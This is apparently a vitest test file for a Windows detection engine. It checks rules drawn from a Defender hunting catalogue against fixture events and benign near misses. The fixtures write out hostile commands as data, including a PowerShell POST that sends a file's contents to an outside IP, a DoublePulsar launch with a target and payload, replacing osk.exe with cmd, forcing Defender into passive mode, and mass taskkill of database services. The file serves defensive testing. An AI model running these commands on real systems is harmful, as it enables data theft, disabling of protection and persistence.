// Built-in rules written from a public hunting catalogue (Microsoft 365 Defender's advanced hunting queries over
// Defender for Endpoint's process, file, registry, image load and network tables, read as the Sysmon, Security and
// PowerShell events that carry the same facts): each rule fires on the event it is written for, as Windows and Sysmon
// write it, with its level and tactic, and a benign near miss of the same event type does not fire it.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { builtinHits, CHROME, CMD, describeCatalogue, EXPL, load, net, PS, reg, S32, script, sysmon, TMP, USER, type CatalogueCase, type Ev } from './builtin.fixture.js';

const RO = 'C:\\Users\\bob\\AppData\\Roaming\\';
const JAVAW = 'C:\\Program Files\\Java\\jre1.8.0_301\\bin\\javaw.exe';
// This file's own makers: proc runs at High integrity from the user's folder, file is dated 2026-12-01 10:00.
const proc = (image: string, cmd: string, parent = CMD, extra: JsonRecord = {}): Ev =>
  sysmon(1, { Image: image, OriginalFileName: image.split('\\').pop() ?? '', CommandLine: cmd, ParentImage: parent, ParentCommandLine: parent, User: USER, IntegrityLevel: 'High', CurrentDirectory: 'C:\\Users\\bob\\', ...extra });
const file = (target: string, image: string): Ev => sysmon(11, { Image: image, TargetFilename: target, User: USER, CreationUtcTime: '2026-12-01 10:00:00.000' });

const SMA = 'System.Management.Automation';
const ATP = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Advanced Threat Protection\\ForceDefenderPassiveMode';
const SPOOLSV = `${S32}spoolsv.exe`;
const WINHTTP = { ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc' };

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['PowerShell Version 2 Engine Loaded', 'medium', 'defense-impairment',
    load(PS, `C:\\Windows\\assembly\\GAC_MSIL\\${SMA}\\1.0.0.0__31bf3856ad364e35\\${SMA}.dll`),
    load(PS, `C:\\Windows\\Microsoft.Net\\assembly\\GAC_MSIL\\${SMA}\\v4.0_3.0.0.0__31bf3856ad364e35\\${SMA}.dll`)],
  ['PowerShell Version 2 Engine Loaded', 'medium', 'defense-impairment',
    load(PS, `C:\\Windows\\assembly\\NativeImages_v2.0.50727_64\\System.Management.A#\\1a2b\\${SMA}.ni.dll`),
    load(PS, `C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\1a2b\\${SMA}.ni.dll`)],
  ['Program Run From The Recycle Bin', 'medium', 'stealth',
    proc(CMD, 'cmd.exe /c C:\\$Recycle.Bin\\S-1-5-21-1-2-3-1104\\svc.exe', EXPL),
    proc(CMD, 'cmd.exe /c rd /s /q C:\\$Recycle.Bin', EXPL)],
  ['Program Run From The Recycle Bin', 'medium', 'stealth',
    proc('C:\\RECYCLER\\S-1-5-21-1-2-3-1104\\a.exe', 'C:\\RECYCLER\\S-1-5-21-1-2-3-1104\\a.exe', EXPL),
    proc('C:\\Users\\bob\\Desktop\\a.exe', 'C:\\Users\\bob\\Desktop\\a.exe', EXPL)],
  ['Core Windows Process Name Written Outside The System Folders', 'medium', 'stealth',
    file('C:\\Windows\\System32\\spool\\svchost.exe', `${TMP}a.exe`),
    file('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\servicing\\TrustedInstaller.exe')],
  ['Core Windows Process Name Written Outside The System Folders', 'medium', 'stealth',
    file('C:\\Windows\\SysWOW64\\spool\\drivers\\svchost.exe', `${TMP}a.exe`),
    [file('C:\\Windows\\WinSxS\\amd64_microsoft-windows-lsa_31bf3856ad364e35_10.0.19041.1_none_1a\\lsass.exe', 'C:\\Windows\\servicing\\TrustedInstaller.exe'),
      // reported by SigmaHQ's "Files With System Process Name In Unsuspected Locations"
      file('C:\\ProgramData\\lsass.exe', `${TMP}a.exe`)]],
  ['Exploit Tool Given A Target Address, Port And Payload', 'high', 'lateral-movement',
    proc('C:\\Users\\bob\\Desktop\\fb\\Doublepulsar-1.3.1.exe', 'Doublepulsar-1.3.1.exe --TargetIp 10.0.0.20 --TargetPort 445 --Payload C:\\x.dll --Function RunDLL'),
    proc('C:\\Program Files\\Corp\\probe.exe', 'probe.exe --TargetIp 10.0.0.20 --TargetPort 443 --timeout 5')],
  ['Program Started By The WinHTTP Proxy Auto-Discovery Service', 'high', 'privilege-escalation',
    proc(CMD, 'cmd.exe /c whoami', `${S32}svchost.exe`, WINHTTP),
    proc(`${S32}pacjsworker.exe`, 'pacjsworker.exe', `${S32}svchost.exe`, WINHTTP)],
  ['Accessibility Program Replaced From The Command Line', 'high', 'persistence',
    proc(CMD, 'cmd.exe /c copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\osk.exe', EXPL),
    proc(CMD, 'cmd.exe /c copy /y C:\\Windows\\System32\\drivers\\etc\\hosts C:\\Users\\bob\\hosts.bak', EXPL)],
  ['Server-Side Page Written By A Web Server Or Its Script Runner', 'medium', 'persistence',
    file('C:\\Apache24\\htdocs\\uploads\\x.jsp', 'C:\\Apache24\\bin\\httpd.exe'),
    file('C:\\Apache24\\htdocs\\uploads\\photo.jpg', 'C:\\Apache24\\bin\\httpd.exe')],
  ['Server-Side Page Written By A Web Server Or Its Script Runner', 'medium', 'persistence',
    file('C:\\xampp\\htdocs\\uploads\\x.php', 'C:\\xampp\\php\\php-cgi.exe'),
    [file('C:\\nginx\\temp\\sessions\\sess_1a2b.php', 'C:\\php\\php-cgi.exe'),
      // reported by SigmaHQ's "Potential Webshell Creation On Static Website"
      file('C:\\nginx\\html\\x.php', 'C:\\php\\php-cgi.exe')]],
  ['Windows Error Reporting Queue Task Run On Demand', 'medium', 'privilege-escalation',
    proc(`${S32}schtasks.exe`, 'schtasks.exe /run /tn "Microsoft\\Windows\\Windows Error Reporting\\QueueReporting"', `${TMP}a.exe`),
    proc(`${S32}schtasks.exe`, 'schtasks.exe /query /tn "Microsoft\\Windows\\Windows Error Reporting\\QueueReporting"', `${TMP}a.exe`)],
  ['Cached Installer Package Repaired From The Command Line', 'low', 'privilege-escalation',
    proc(`${S32}msiexec.exe`, 'msiexec.exe /fa C:\\Windows\\Installer\\1a2b3c.msi', `${TMP}a.exe`),
    proc(`${S32}msiexec.exe`, 'msiexec.exe /x C:\\Windows\\Installer\\1a2b3c.msi /qn', `${TMP}a.exe`)],
  ['File Written Inside A Folder Made A Shortcut Junction By Its Name', 'medium', 'privilege-escalation',
    file(`${TMP}x.{0afaced1-e828-11d1-9187-b532f1e9575d}\\a.lnk`, `${TMP}a.exe`),
    file(`${TMP}x\\a.lnk`, `${TMP}a.exe`)],
  ['Printer Configuration Library Written By A Program Outside The System Folders', 'medium', 'privilege-escalation',
    file('C:\\Windows\\System32\\DriverStore\\FileRepository\\prnms003.inf_amd64_4592475aca2acf83\\Amd64\\PrintConfig.dll', `${TMP}a.exe`),
    file('C:\\Windows\\System32\\DriverStore\\FileRepository\\prnms003.inf_amd64_4592475aca2acf83\\Amd64\\PrintConfig.dll', `${S32}DrvInst.exe`)],
  ['Endpoint Protection Exclusion Added Or Defender For Endpoint Set Passive', 'medium', 'defense-impairment',
    reg(ATP, 'DWORD (0x00000001)'),
    reg(ATP, 'DWORD (0x00000000)')],
  ['Microsoft Defender Forced Into Passive Mode From The Command Line', 'medium', 'defense-impairment',
    proc(`${S32}reg.exe`, 'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Advanced Threat Protection" /v ForceDefenderPassiveMode /t REG_DWORD /d 1 /f'),
    proc(`${S32}reg.exe`, 'reg.exe query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Advanced Threat Protection" /v ForceDefenderPassiveMode')],
  ['NetBIOS Name Scanner Run', 'medium', 'discovery',
    proc(`${TMP}nbtscan.exe`, 'nbtscan.exe 10.0.0.0/24'),
    proc(`${S32}nbtstat.exe`, 'nbtstat.exe -n')],
  ['Mail Item Written By A Windows Utility That Never Handles Mail', 'high', 'collection',
    file(`${RO}Microsoft\\EmailStorage_WS01\\Outlook\\12.eml`, `${S32}PING.EXE`),
    file('C:\\Users\\bob\\Documents\\saved.eml', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE')],
  ['Tor Client Or Pluggable Transport Connects Out (Sysmon 3)', 'medium', 'command-and-control',
    net('C:\\Users\\bob\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\PluggableTransports\\meek-client.exe', '198.51.100.7', 443),
    [net('C:\\Program Files\\Corp\\monitor.exe', '198.51.100.7', 443),
      // reported by "Connection To A Tor Relay Or Proxy Port (Sysmon 3)"
      net('C:\\Users\\bob\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe', '198.51.100.7', 9001)]],
  ['Exchange Mailbox Export Request Removed In A Script Block', 'medium', 'collection',
    script('Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false'),
    script('Get-MailboxExportRequest | Format-List Status')],
  ['Windows Script File Saved By A Web Browser', 'medium', 'initial-access',
    file('C:\\Users\\bob\\Downloads\\invoice.jse', CHROME),
    file('C:\\Users\\bob\\Downloads\\invoice.pdf', CHROME)],
  ['Print Spooler Starts A Discovery Tool', 'high', 'privilege-escalation',
    proc(`${S32}whoami.exe`, 'whoami.exe', SPOOLSV),
    proc(`${S32}splwow64.exe`, 'splwow64.exe 8192', SPOOLSV)],
  ['Print Spooler Starts A Discovery Tool', 'high', 'privilege-escalation',
    proc(`${S32}ipconfig.exe`, 'ipconfig.exe /all', SPOOLSV, { IntegrityLevel: 'System' }),
    proc(`${S32}whoami.exe`, 'whoami.exe', SPOOLSV, { IntegrityLevel: 'System' })],
  ['Command-Line Archiver In A Shared Or Temporary Folder Adds Files', 'medium', 'collection',
    proc('C:\\Users\\Public\\7za.exe', '7za.exe a 1.7z C:\\ProgramData\\eprod.ldf'),
    [proc('C:\\Users\\Public\\7za.exe', '7za.exe x C:\\Users\\Public\\tools.7z'),
      // reported by SigmaHQ's "WinRAR Execution in Non-Standard Folder" and "Compress Data and Lock With Password for Exfiltration With 7-ZIP"
      proc('C:\\ProgramData\\rar.exe', 'rar.exe a -r out.rar C:\\data'),
      proc('C:\\Users\\Public\\7za.exe', '7za.exe a -pSecret out.7z C:\\data')]],
  ['Command-Line Archiver In A Shared Or Temporary Folder Adds Files', 'medium', 'collection',
    proc('C:\\Windows\\Temp\\rar.exe', 'rar.exe a out.rar C:\\data'),
    proc('C:\\Windows\\Temp\\rar.exe', 'rar.exe x C:\\Windows\\Temp\\setup.rar')],
  ['Domain Account Enabled Or Its Password Locked From The Command Line', 'medium', 'persistence',
    proc(`${S32}net.exe`, 'net.exe user alice N3wP@ss! /Domain /Active:Yes /PasswordChg:No'),
    proc(`${S32}net.exe`, 'net.exe user alice /domain')],
  ['PowerShell Posts A File Content To A Web Address', 'medium', 'exfiltration',
    proc(PS, 'powershell.exe -c "iwr -met POST -Body (gc C:\\Users\\bob\\Documents\\a.txt -raw) http://203.0.113.9/u"'),
    proc(PS, 'powershell.exe -c "iwr -Method POST -Body \'{\\"status\\":1}\' https://status.example/api"')],
  ['Java Archive From A User Folder Starts A Shell Or Script Host', 'medium', 'execution',
    proc(CMD, 'cmd.exe /c schtasks /create /sc minute /mo 30 /tn Skype /tr C:\\Users\\bob\\AppData\\Roaming\\a.jar', JAVAW, { ParentCommandLine: `"${JAVAW}" -jar C:\\Users\\bob\\AppData\\Roaming\\a.jar` }),
    proc(CMD, 'cmd.exe /c mvn package', JAVAW, { ParentCommandLine: `"${JAVAW}" -jar C:\\Program Files\\IDE\\ide.jar` })],
  ['Several Discovery Commands Chained In One Shell Command', 'low', 'discovery',
    proc(CMD, 'cmd.exe /c SYSTEMINFO & TASKLIST', `${TMP}a.exe`),
    proc(CMD, 'cmd.exe /c systeminfo > C:\\Users\\bob\\report.txt', `${TMP}a.exe`)],
  ['Folder Tree Copied From Another Host Including Hidden Files', 'low', 'collection',
    proc(`${S32}xcopy.exe`, 'xcopy.exe /S /E /C /Q /H \\\\FS01\\finance\\ C:\\ProgramData\\f\\'),
    proc(`${S32}xcopy.exe`, 'xcopy.exe /S /E C:\\Users\\bob\\Documents D:\\backup\\')],
];

describeCatalogue('built-in rules from the Microsoft 365 Defender hunting catalogue', cases);

describe('built-in stop burst (Microsoft 365 Defender hunting catalogue)', () => {
  const BURST = 'Burst Of Services, Tasks Or Processes Stopped On One Host';
  const names = ['sql', 'oracle', 'ocssd', 'dbsnmp', 'synctime', 'agntsvc', 'isqlplussvc', 'xfssvccon', 'mydesktopservice', 'ocautoupds', 'encsvc', 'firefox'];
  const kills = (n: number): Ev[] => names.slice(0, n).map((p) => proc(`${S32}taskkill.exe`, `taskkill.exe /IM ${p}.exe /F`));
  it('ten different kill, stop, disable or task-delete command lines on one host fire it, high, impact; the single commands are not reported', () => {
    const h = builtinHits([...kills(8), proc(`${S32}sc.exe`, 'sc.exe config "SQLWriter" start= disabled'), proc(`${S32}net.exe`, 'net.exe stop "MSSQLSERVER" /y')]);
    expect(h.get(BURST)?.level).toBe('high');
    expect(h.get(BURST)?.tactics).toContain('impact');
    expect(h.has('Service, Task Or Process Stopped Or Disabled From The Command Line')).toBe(false);
  });
  it('nine do not', () => {
    expect(builtinHits(kills(9)).has(BURST)).toBe(false);
  });
  it('a net stop counts once: the net1 that net.exe starts for it is not a second command line', () => {
    const services = ['wuauserv', 'bits', 'cryptsvc', 'msiserver', 'TrustedInstaller'];
    const stops = services.flatMap((svc) => [
      proc(`${S32}net.exe`, `net stop ${svc}`),
      proc(`${S32}net1.exe`, `C:\\Windows\\system32\\net1 stop ${svc}`, `${S32}net.exe`),
    ]);
    expect(builtinHits(stops).has(BURST)).toBe(false);
    const direct = [...services, 'sppsvc', 'vss', 'wbengine', 'SQLWriter', 'MSSQLSERVER'].map((svc) => proc(`${S32}net1.exe`, `net1 stop ${svc}`));
    expect(builtinHits(direct).has(BURST)).toBe(true);
  });
});
